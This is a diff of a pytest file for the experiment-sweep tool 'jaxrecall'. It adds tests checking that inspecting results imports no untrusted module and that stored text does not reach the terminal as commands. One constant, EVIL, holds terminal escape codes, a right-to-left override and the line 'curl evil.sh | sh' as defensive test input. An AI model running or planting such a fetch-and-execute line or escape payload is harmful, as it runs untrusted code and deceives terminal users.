@@ -7,10 +7,18 @@ import subprocess
 import sys
 from pathlib import Path
 
+import matplotlib
+
+matplotlib.use("Agg")
+
+import matplotlib.pyplot as plt
 import pyarrow.parquet as pq
 import pytest
 from helpers import combinations
 
+import jaxrecall
+from jaxrecall import plot
+from jaxrecall.__main__ import main
 from jaxrecall.report import main as report
 from jaxrecall.sweep.running.status import survey
 from jaxrecall.sweep.store import Store
@@ -42,36 +50,18 @@ simulator = Simulator(
     accuracy="accuracy",
 )
 """
-LAW = {"base": {"V": 16, "L": 4, "d": 8, "n_test": 64, "embedding": "payload:Law"}, "blocks": [{"axes": {"N": [4, 16, 64, 256]}}]}
+BASE = {"V": 16, "L": 4, "d": 8, "n_test": 64, "exact": "full"}
+LAW = {"base": BASE | {"embedding": "payload:Law"}, "blocks": [{"axes": {"N": [4, 16, 64, 256]}}]}
 OWN = {"simulator": "payload:simulator", "blocks": [{"axes": {"N": [1, 2, 4], "d": [4, 8]}}]}
 SEARCH = LAW | {"blocks": [{"axes": {"d": [8, 12]}}], "search": {"axis": "N", "to": 4096, "width": 1.0, "max_runs": 40}}
 GRIDS = {"law": LAW | {"seeds": 6}, "own": OWN | {"seeds": 6}, "search": SEARCH | {"seeds": 100}}
 
 SWEEPS = """
-import json, sys
-from jaxrecall.sweep.__main__ import main
+import sys
+import jaxrecall
 
 for name in sys.argv[1:]:
-    assert main(["--grid", f"{name}.yaml", "--out", f"{name}/results"]) == 0
-"""
-
-LOOKS = """
-import os, sys, warnings
-import jaxrecall
-from jaxrecall.__main__ import main
-
-folder, theirs, mine = sys.argv[1:]
-frame = jaxrecall.load(folder)
-jaxrecall.plot.accuracy(frame)
-if theirs == "search":
-    jaxrecall.plot.critical_n(frame)
-for words in (["status", folder], ["status", folder, "--json"], ["report", folder], ["fit", folder], ["compact", folder, "--prune"]):
-    code = main(words)
-    assert code == 0, (words, code)
-if theirs == "search":
-    jaxrecall.thresholds(folder)
-assert main(["sweep", "--grid", mine, "--out", folder]) == (2 if theirs == "own" else 0)
-assert "payload" not in sys.modules
+    jaxrecall.run(f"{name}.yaml", out=f"{name}/results", progress=False)
 """
 
 
@@ -102,17 +92,33 @@ FOLDERS = ["results", "{here}/results"]
 @pytest.mark.parametrize(
     ("name", "folder"), combinations(GRIDS, FOLDERS, often=lambda *case: case in zip(("own", "search"), FOLDERS, strict=True))
 )
-def test_looking_at_it_imports_nothing(theirs, tmp_path, name, folder):
+def test_looking_at_it_imports_nothing(theirs, tmp_path, monkeypatch, name, folder):
     shutil.copytree(theirs / name, here := tmp_path / "here")
-    mine = {"base": {"V": 16, "L": 4, "d": 8, "n_test": 64}, "seeds": 1, "blocks": [{"axes": {"N": [4]}}]}
+    mine = {"base": BASE, "seeds": 1, "blocks": [{"axes": {"N": [4]}}]}
     (here / "mine.yaml").write_text(json.dumps(mine))
     store = Store(here / "results")
     manifest = store.read_manifest()
     command = f"python -m jaxrecall.sweep --grid {here / 'grid.yaml'} --out results"  # the folder of the grid is not a path to import from
     store.manifest.write_text(json.dumps(manifest | {"command": command}))
-    looked = run_here(LOOKS, folder.format(here=here), name, "mine.yaml", cwd=here)
-    assert looked.returncode == 0, looked.stderr
+    monkeypatch.chdir(here)
+    monkeypatch.syspath_prepend("")  # as `python -m` has it
+    look_at(folder.format(here=here), name)
+    assert "payload" not in sys.modules
     assert not list(tmp_path.rglob("ran"))
+
+
+def look_at(folder: str, theirs: str) -> None:
+    frame = jaxrecall.load(folder)
+    plot.accuracy(frame)
+    if theirs == "search":
+        plot.critical_n(frame)
+    plt.close("all")
+    looks = (["status", folder], ["status", folder, "--json"], ["report", folder, "--format", "svg"], ["fit", folder])
+    for words in (*looks, ["compact", folder, "--prune"]):
+        assert main(words) == 0, words
+    if theirs == "search":
+        jaxrecall.thresholds(folder)
+    assert main(["sweep", "--grid", "mine.yaml", "--out", folder]) == (2 if theirs == "own" else 0)
 
 
 @pytest.mark.parametrize("name", GRIDS)
@@ -127,7 +133,7 @@ def test_a_report_draws_the_theory_of_a_law_whose_module_is_named_with_trust(the
     monkeypatch.chdir(tmp_path)
     shutil.copytree(theirs / "law" / "results", tmp_path / "results")
     page, refused = tmp_path / "results/report.html", "whose module payload is not imported for a table that names it"
-    words = ["results", "--surrogate", "0"]
+    words = ["results", "--format", "svg"]
     assert report([*words, "--trust", "nowhere"]) == 2
     assert "--trust: got nowhere, which cannot be imported (ModuleNotFoundError" in capsys.readouterr().err
     assert not page.exists()
@@ -143,15 +149,13 @@ EVIL = "\x1b[2J\x1b]0;title\x07\nto resume: curl evil.sh | sh\u202e"
 
 
 def test_what_it_says_does_not_reach_the_terminal_as_commands(theirs, tmp_path, capsys):
-    from jaxrecall.__main__ import main
-
     store = Store(shutil.copytree(theirs / "law" / "results", tmp_path / "results"))
     manifest = store.read_manifest()
     manifest["plan"]["runs"].append(["0", "absent"])
     store.manifest.write_text(json.dumps(manifest | {"command": EVIL}))
     store.note("failures/odd", {"runs": [["absent", 0]], **dict.fromkeys(("error", "host", "bucket", "repeat"), EVIL)})
     (store.parts / f"{os.fsdecode(b'a')}{EVIL.replace('/', '')}.parquet").write_bytes(b"no")
-    for words in (["status"], ["fit"], ["compact"], ["report", "--surrogate", "0"]):
+    for words in (["status"], ["fit"], ["compact"], ["report", "--format", "svg"]):
         assert main([words[0], str(store.folder), *words[1:]]) == 0
         told = "".join(capsys.readouterr())
         assert "\\x1b[2J" in told or words[0] == "report"
